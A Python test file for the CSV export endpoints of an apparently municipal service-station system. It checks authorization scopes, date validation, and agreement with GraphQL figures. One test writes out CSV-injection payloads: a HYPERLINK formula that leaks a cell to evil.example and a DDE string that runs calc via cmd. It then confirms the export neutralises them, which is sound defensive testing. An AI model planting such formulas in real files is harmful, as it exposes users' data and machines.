"""CSV exports: UTF-8 with BOM, Chinese intact, and the caller's authorization."""

from __future__ import annotations

import csv
import io
from typing import Any


async def _get(client: Any, gql: Any, path: str, user: str, **params: str) -> Any:
    token = await gql.token(user)
    return await client.get(path, params=params, headers={"Authorization": f"Bearer {token}"})


def _rows(response: Any) -> list[list[str]]:
    assert response.content.startswith("\ufeff".encode())  # the BOM spreadsheets need
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


async def test_stations_csv_as_bureau_and_as_a_community_worker(client: Any, gql: Any) -> None:
    everything = _rows(await _get(client, gql, "/export/stations.csv", "bureau"))
    assert everything[0][0] == "编号 code"
    operating = [r for r in everything[1:] if r[4] == "OPERATING"]
    assert len([r for r in operating if r[2] == "SERVICE_STATION"]) == 113
    assert any(r[1] == "长安镇厦岗社区城市服务驿站" and r[3] == "城市服务驿站" for r in everything)
    xiagang = _rows(await _get(client, gql, "/export/stations.csv", "worker-xiagang"))
    assert 1 < len(xiagang) < len(everything) and all(r[6] == "厦岗社区" for r in xiagang[1:])
    anonymous = await client.get("/export/stations.csv")
    assert anonymous.status_code == 401


async def test_scorecard_csv_obeys_scope(client: Any, gql: Any) -> None:
    rows = dict(
        r
        for r in _rows(
            await _get(
                client, gql, "/export/scorecard.csv", "bureau", **{"from": "2021-01-01", "to": "2022-12-31"}
            )
        )
        if len(r) == 2
    )
    assert rows["驿站 stations SERVICE_STATION OPERATING"] == "113"
    assert rows["驿站 stations COMMUNITY_WORKSTATION OPERATING"] == "116"
    refused = await _get(
        client,
        gql,
        "/export/scorecard.csv",
        "worker-xiagang",
        **{"from": "2021-01-01", "to": "2022-12-31", "jurisdiction": "dongguan"},
    )
    assert refused.status_code == 403
    bad = await _get(client, gql, "/export/scorecard.csv", "bureau", **{"from": "soon", "to": "2022-12-31"})
    assert bad.status_code == 400


async def test_formula_like_text_is_neutralised_and_every_cell_quoted(client: Any, gql: Any) -> None:
    """OWASP CSV injection: text starting with = + - @ (or tab, carriage return) gets a leading
    single quote, so a spreadsheet shows it instead of running it."""
    from tests.helpers import data

    xiagang = data(await gql('{ jurisdictions(filter: {search: "Xiagang"}) { nodes { id } } }'))
    name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    address = "+cmd|' /C calc'!A0"
    data(
        await gql(
            "mutation($i: CreateStationInput!) { createStation(input: $i) { __typename } }",
            {
                "i": {
                    "code": "csv-injection-test",
                    "name": name,
                    "kind": "COMMUNITY_WORKSTATION",
                    "level": "COMMUNITY",
                    "floorArea": 30.0,
                    "restArea": 20.0,
                    "address": address,
                    "openingHours": "@SUM(1+1)",
                    "jurisdictionId": xiagang["jurisdictions"]["nodes"][0]["id"],
                }
            },
        )
    )
    response = await _get(client, gql, "/export/stations.csv", "bureau")
    [row] = [r for r in _rows(response) if r[0] == "csv-injection-test"]
    assert row[1] == "'" + name and row[7] == "'" + address and row[10] == "'@SUM(1+1)"
    line = next(x for x in response.content.decode("utf-8-sig").splitlines() if "csv-injection-test" in x)
    assert line.startswith('"csv-injection-test","\'=HYPERLINK(') and line.endswith('"')


async def test_far_and_malformed_dates_are_a_400_not_a_500(client: Any, gql: Any) -> None:
    for period in (
        {"from": "9999-01-01", "to": "9999-12-31"},
        {"from": "2022-01-01", "to": "9999-12-31"},
        {"from": "0001-01-01", "to": "0001-12-31"},
        {"from": "2022-02-30", "to": "2022-03-01"},
        {"from": "2022-01-01"},
        {"from": "2022-01-01", "to": "2022-12-31", "jurisdiction": "x" * 10_000},
    ):
        bad = await _get(client, gql, "/export/scorecard.csv", "bureau", **period)
        assert bad.status_code == 400, (period, bad.text)
        assert bad.json()["errors"][0]["extensions"]["code"] == "BAD_USER_INPUT"


async def test_a_department_liaison_gets_its_departments_figures_in_the_csv_as_in_graphql(
    client: Any, gql: Any
) -> None:
    period = {"from": "2022-01-01", "to": "2026-12-31"}
    query = (
        '{ scorecard(periodFrom: "2022-01-01", periodTo: "2026-12-31") { ticketsReceived ticketsResolved } }'
    )
    figures = {}
    for user in ("liaison", "bureau"):
        card = (await gql(query, as_user=user))["data"]["scorecard"]
        rows = dict(
            r for r in _rows(await _get(client, gql, "/export/scorecard.csv", user, **period)) if len(r) == 2
        )
        assert int(rows["受理 tickets received"]) == card["ticketsReceived"], user
        assert int(rows["办结 tickets resolved"]) == card["ticketsResolved"], user
        figures[user] = card["ticketsReceived"]
    assert figures["liaison"] < figures["bureau"]  # its department's tickets, not the city's
